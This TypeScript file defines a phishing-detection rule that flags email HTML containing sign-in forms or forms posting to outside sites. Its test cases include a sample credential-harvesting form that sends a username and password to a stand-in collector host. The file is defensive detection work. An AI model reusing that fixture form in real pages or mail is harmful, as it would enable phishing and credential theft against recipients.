import type { MailDetection } from '../mail-detection.ts';

export const detection: MailDetection = {
  id: 'content.html-credential-form',
  title: 'A sign-in form inside the message',
  description: 'The HTML body embeds a form with a password field, or a form that posts to another site: credentials typed into the message go straight to the attacker.',
  category: 'content',
  maxWeight: 35,
  references: ['https://attack.mitre.org/techniques/T1566/001/', 'https://www.microsoft.com/en-us/security/blog/topic/phishing/'],
  falsePositives: ['Survey and feedback forms in marketing mail (no password field: weighted lower).'],
  gaps: ['Forms built by script at open time (Outlook does not run scripts).'],
  evaluate(m) {
    const html = m.mail.html;
    if (!html || !/<form\b/i.test(html)) return [];
    const lower = html.length > 300_000 ? html.slice(0, 300_000).toLowerCase() : html.toLowerCase();
    if (!lower.includes('<form')) return [];
    const password = /<input\b[^>]{0,400}type\s*=\s*["']?password/.test(lower);
    const form = m.links.find((l) => l.source === 'html-form');
    if (!password && !form) return [];
    return [
      {
        weight: password ? 35 : 15,
        evidence: `HTML form${form ? ` posting to ${form.host}` : ''}${password ? ' with a password field' : ''}`,
        plain: password ? 'it contains a form asking for your password' : `it contains a form that sends what you type to ${form?.registrable ?? 'another site'}`,
        links: form ? [form.url] : [],
      },
    ];
  },
  cases: [
    { name: 'password form', kind: 'true-positive', fires: true, mail: { html: '<form action="https://collect.example.top/p.php"><input name=u><input type="password" name=p></form>' } },
    { name: 'no form', kind: 'true-negative', fires: false, mail: { html: '<p>Hello</p>' } },
    { name: 'the word form in text', kind: 'near-miss', fires: false, mail: { html: '<p>Please fill in the form at the front desk; the &lt;form&gt; tag was escaped.</p>' } },
  ],
};
